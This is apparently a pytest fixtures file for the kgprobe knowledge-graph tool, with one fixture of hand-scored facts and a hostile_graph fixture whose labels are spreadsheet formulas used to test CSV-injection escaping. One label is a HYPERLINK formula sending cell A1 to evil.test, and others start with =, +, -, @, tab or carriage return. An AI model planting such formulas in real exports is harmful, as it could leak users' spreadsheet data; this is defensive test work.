"""Hand-scored graphs on probe_world's facts, shared across test folders: ``hand_graph``
(tests/reports/test_reports.py, tests/plugins/test_report_section_plugin.py) and ``hostile_graph``,
whose labels are formulas (tests/security/test_hardening_outputs.py,
tests/project/test_docs_tracking.py). A test module imports ``hand_graph_fixture`` (the fixture
named ``hand_graph``): a test's parameter then shadows no imported name."""

from __future__ import annotations

from typing import Any

import pytest
from distractor_world import BACH, BIDEN, BUSH, CLINTON, CURIE, FRANCE, GERMANY, OBAMA, TRUMP, USA
from probe_world import load

from kgprobe.graph import probe_runs as pr

SP = pr.ScoreProps("hand", "kmin_temp_sem_n5")
OTHER = pr.ScoreProps("other", "kmin_temp_sem_n5")


def _key(graph: Any, subject: str, pid: str, obj: str) -> str:
    rows = graph.read(
        "MATCH (s:Entity {qid: $s})-[f:FACT]->(o:Entity {qid: $o}) WHERE f.pid = $p RETURN f.key AS k",
        s=subject, p=pid, o=obj,
    )
    return str(rows[0]["k"])


# (subject, pid, object, score, stale, popularity of the subject as in probe_world)
HAND = [
    (USA, "P35", BIDEN, 0.5, 1.0, 9.0),
    (USA, "P36", "Q61", 1.0, None, 9.0),
    (FRANCE, "P36", "Q90", 0.0, None, 8.0),
    (GERMANY, "P36", "Q64", 1.0, None, 7.0),
    (OBAMA, "P27", USA, 1.0, None, 6.0),
    (TRUMP, "P27", USA, 0.25, None, 5.5),
    (BIDEN, "P27", USA, 0.0, None, 5.0),
    (BUSH, "P27", USA, 0.75, None, 4.0),
    (CLINTON, "P27", USA, 0.5, None, 3.0),
    (CURIE, "P27", FRANCE, 0.0, None, 1.5),
    (BACH, "P27", GERMANY, 1.0, None, 1.0),
]


@pytest.fixture(name="hand_graph")
def hand_graph_fixture(graph: Any) -> Any:
    load(graph)
    for sp, flip in ((SP, False), (OTHER, True)):
        run_id = f"run-{sp.model_key}"
        pr.create_run(graph, run_id, {"model": sp.model_key, "model_key": sp.model_key,
                                      "measure_keys": [sp.measure_key], "threshold": 0.5,
                                      "status": "finished", "started": "t"})
        rows = [
            {"key": _key(graph, s, p, o), "s": s,
             "props": {sp.score: (1.0 - v) if flip else v, sp.stale: st, sp.run: run_id}}
            for s, p, o, v, st, _ in HAND
        ]
        pr.write_scores(graph, run_id, rows, scored=len(rows), unscorable=0, now="t")
    return graph



#: Labels a spreadsheet would run: each must come back with a leading ' in every CSV.
HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
RELATION_LABELS = {"P36": HYPERLINK, "P27": "+1+1 citizen", "P35": "@SUM(A1)"}
CLASS_LABELS = {"Q5": "=1+1 class", "Q6256": "-2+3 class", "Q215627": "\tperson",
                "Q1048835": "\rpolitical", "Q56061": "admin - territorial"}


# (subject, pid, object, score): scores below zero (log-probability-like), so that kgprobe's own
# numbers start with "-" too; P27's mean is -0.5 exactly.
FACTS = [
    (USA, "P35", BIDEN, -0.5), (USA, "P36", "Q61", -0.25), (FRANCE, "P36", "Q90", -1.0),
    (GERMANY, "P36", "Q64", -0.25), (OBAMA, "P27", USA, 0.0), (TRUMP, "P27", USA, -0.75),
    (BIDEN, "P27", USA, -1.0), (BUSH, "P27", USA, -0.25), (CLINTON, "P27", USA, -0.5),
    (CURIE, "P27", FRANCE, -1.0), (BACH, "P27", GERMANY, 0.0),
]


@pytest.fixture(name="hostile_graph")
def hostile_graph_fixture(graph: Any) -> Any:
    """probe_world's facts scored for model "hand", relation and class labels that are formulas."""
    from kgprobe.graph.ingest import ingest
    from kgprobe.records import EntityRecord

    load(graph)
    ingest(graph, [
        EntityRecord("Q6256", CLASS_LABELS["Q6256"], superclasses=["Q1048835"]),
        EntityRecord("Q1048835", CLASS_LABELS["Q1048835"], superclasses=["Q56061"]),
        EntityRecord("Q56061", CLASS_LABELS["Q56061"]),
        EntityRecord("Q5", CLASS_LABELS["Q5"], superclasses=["Q215627"]),
        EntityRecord("Q215627", CLASS_LABELS["Q215627"]),
    ])
    for pid, label in RELATION_LABELS.items():
        graph.write("MATCH (r:Relation {pid: $p}) SET r.label = $l", p=pid, l=label)
    pr.create_run(graph, "run-hand", {"model": "hand", "model_key": "hand", "measure_keys": [SP.measure_key],
                                      "threshold": 0.5, "status": "finished", "started": "t"})
    rows = []
    for s, p, o, v in FACTS:
        key = graph.read("MATCH (s:Entity {qid: $s})-[f:FACT]->(o:Entity {qid: $o}) WHERE f.pid = $p "
                         "RETURN f.key AS k", s=s, p=p, o=o)[0]["k"]
        rows.append({"key": key, "s": s, "props": {SP.score: v, SP.stale: None, SP.run: "run-hand"}})
    pr.write_scores(graph, "run-hand", rows, scored=len(rows), unscorable=0, now="t")
    return graph
